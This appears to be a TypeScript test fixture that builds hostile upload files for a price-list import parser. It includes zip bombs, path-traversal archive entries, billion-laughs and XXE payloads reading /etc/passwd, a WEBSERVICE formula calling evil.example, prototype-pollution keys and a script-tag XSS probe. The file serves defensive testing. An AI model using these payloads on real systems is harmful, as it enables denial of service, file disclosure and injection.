import { randomBytes } from 'node:crypto'
import { mintXlsx } from '../../support/worker/mint-xlsx.ts'
import { mintZip } from '../../support/worker/mint-zip.ts'

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text)
const HEAD = 'Brand;Part Number;Price;Stock'
const ROW = '\r\nA;B1;1.00;5'
const CSV = bytes(HEAD + ROW)
const XML = '<?xml version="1.0" encoding="UTF-8"?>'
const LAUGHS = Array.from(
  { length: 9 },
  (_, nth) => `<!ENTITY l${nth + 1} "${`&l${nth};`.repeat(10)}">`,
).join('')
const DOCTYPE = `<!DOCTYPE x [<!ENTITY l0 "lol">${LAUGHS}<!ENTITY file SYSTEM "file:///etc/passwd">]>`
const cell = (inner: string) => `<row r="1">${inner}</row>`
const inline = (text: string, at = 'A1') => `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`
const HEADS = ['Brand', 'Part Number', 'Price', 'Stock']
  .map((text, nth) => inline(text, `${'ABCD'[nth]}1`))
  .join('')
const book = (rows: string, more: object = {}) =>
  mintXlsx({ sheets: { Sheet: `<row r="1">${HEADS}</row>${rows}` }, ...more })
const random = (length: number) => new Uint8Array(randomBytes(length))

export interface BadFile {
  name: string
  data: Uint8Array
}

const file = (name: string, data: Uint8Array | string): BadFile => ({
  name,
  data: typeof data === 'string' ? bytes(data) : data,
})

/** Files as nobody good sends them, each under 20 MB. */
export function badFiles(): BadFile[] {
  return [...archives(), ...workbooks(), ...texts()]
}

function archives(): BadFile[] {
  const zeros = new Uint8Array(60_000_000)
  const inner = mintZip([{ name: 'a.csv', data: CSV }])
  const many = Array.from({ length: 1001 }, (_, nth) => ({ name: `${nth}.csv`, data: CSV }))
  return [
    file('ratio.zip', mintZip([{ name: 'a.csv', data: zeros }])),
    file('declared.zip', mintZip([{ name: 'a.csv', data: CSV, declaredSize: 0xf0_00_00_00 }])),
    file('lies-small.zip', mintZip([{ name: 'a.csv', data: zeros.slice(0, 9_000_000), declaredSize: 10 }])),
    file('many.zip', mintZip(many)),
    file('nested.zip', mintZip([{ name: 'b.zip', data: inner }])),
    file('encrypted.zip', mintZip([{ name: 'a.csv', data: CSV, isEncrypted: true }])),
    file('paths.zip', mintZip([{ name: '../../../etc/passwd', data: CSV }, { name: '/abs.csv', data: CSV }])),
    file('no-name.zip', mintZip([{ name: '', data: CSV }])),
    file('bad-name.zip', mintZip([{ name: Uint8Array.of(0xff, 0xfe, 0), data: CSV, isUtf8: true }])),
    file('twice.zip', mintZip([{ name: 'a.csv', data: CSV }, { name: 'a.csv', data: CSV }])),
    file('cut.zip', inner.slice(0, inner.length - 8)),
    file('empty.zip', mintZip([])),
    file('a.rar', Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), random(500)])),
    file('a.7z', Buffer.concat([Buffer.from('7z\xbc\xaf\x27\x1c', 'latin1'), random(500)])),
    file('a.gz', Buffer.concat([Buffer.from('\x1f\x8b\x08', 'latin1'), random(500)])),
  ] // prettier-ignore
}

function workbooks(): BadFile[] {
  const row = (price: string) =>
    `<row r="2">${inline('A', 'A2')}${inline('B1', 'B2')}${price}${inline('5', 'D2')}</row>`
  const formula = '<c r="C2"><f>WEBSERVICE("http://evil.example")</f><v>1.5</v></c>'
  return [
    file('huge.xlsx', book(row(inline('1', 'C2')), { preamble: '<dimension ref="A1:XFD1048576"/>' })),
    file('far.xlsx', book(`<row r="1048576">${inline('A', 'XFD1048576')}</row>`)),
    file('beyond.xlsx', book(`<row r="9999999999">${inline('A', 'ZZZZZZZZ9999999999')}</row>`)),
    file('laughs.xlsx', mintXlsx({ sheets: { A: '' }, preamble: '</worksheet>' + DOCTYPE })),
    file('strings.xlsx', book(row('<c r="C2" t="s"><v>99999999</v></c>'), { strings: '<si><t>x</t></si>' })),
    file('minus.xlsx', book(row('<c r="C2" t="s"><v>-1</v></c>'), { strings: '<si><t>x</t></si>' })),
    file('formula.xlsx', book(row(formula))),
    file('long.xlsx', book(row(inline('9'.repeat(4_000_000), 'C2')))),
    file('unclosed.xlsx', book('<row r="2"><c r="A2" t="inlineStr"><is><t>A')),
    file('deep.xlsx', book(`<row r="2">${'<x>'.repeat(100_000)}</row>`)),
    file('no-sheets.xlsx', mintXlsx({ sheets: {} })),
    file('ole.xls', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), random(4000)])),
    file('cells.xlsx', book(cell(inline('__proto__')))),
  ] // prettier-ignore
}

function texts(): BadFile[] {
  const yml = (inner: string) =>
    `${XML}${DOCTYPE}<yml_catalog><shop><offers>${inner}</offers></shop></yml_catalog>`
  const offer = (name: string) =>
    `<offer id="1"><vendor>A</vendor><vendorCode>B1</vendorCode><price>1</price><name>${name}</name></offer>`
  return [
    file('empty.csv', ''),
    file('bom.csv', '\ufeff'),
    file('spaces.csv', ' \r\n\r\n  \r\n'),
    file('quote.csv', `${HEAD}\r\n"A;B1;1;5${ROW.repeat(50_000)}`),
    file('one-line.csv', 'x'.repeat(8_000_000)),
    file('wide.csv', `${'a;'.repeat(100_000)}\r\n${'1;'.repeat(100_000)}`),
    file('nul.csv', `${HEAD}\r\nA\u0000;B\u00001;1;5`),
    file('utf16.csv', Buffer.from(`\ufeff${HEAD}${ROW}`, 'utf16le').subarray(0, 41)),
    file('surrogate.csv', Buffer.concat([CSV, Buffer.from([0x0d, 0x0a, 0xed, 0xa0, 0x80, 0x3b, 0x58])])),
    file('noise.csv', random(300_000)),
    file('numbers.csv', `${HEAD}\r\nA;B1;1e308;5\r\nA;B2;${'9'.repeat(400)};5\r\nA;B3;1;${'9'.repeat(40)}\r\nA;B4;-0;NaN\r\nA;B5;0x10;Infinity`),
    file('long-cell.csv', `${HEAD}\r\n${'Я'.repeat(1_000_000)};${'B'.repeat(1_000_000)};1;5`),
    file('same.csv', `${HEAD}${ROW.repeat(100_000)}`),
    file('deep.json', '['.repeat(500_000)),
    file('odd.json', '[{"__proto__":{"price":1},"brand":"A","mpn":"B1","price":{"a":1},"stock":[1]}]'),
    file('laughs.xml', yml(offer('&l9;'))),
    file('file.xml', yml(offer('&file;'))),
    file('cut.xml', yml(offer('x')).slice(0, -40)),
    file('page.html', '<html><script>alert(1)</script><table><tr><td>Brand</td></tr></table></html>'),
    file('a.pdf', '%PDF-1.7\n%âãÏÓ\n1 0 obj'),
    file('a.exe', Buffer.concat([Buffer.from('MZ'), random(500)])),
  ] // prettier-ignore
}
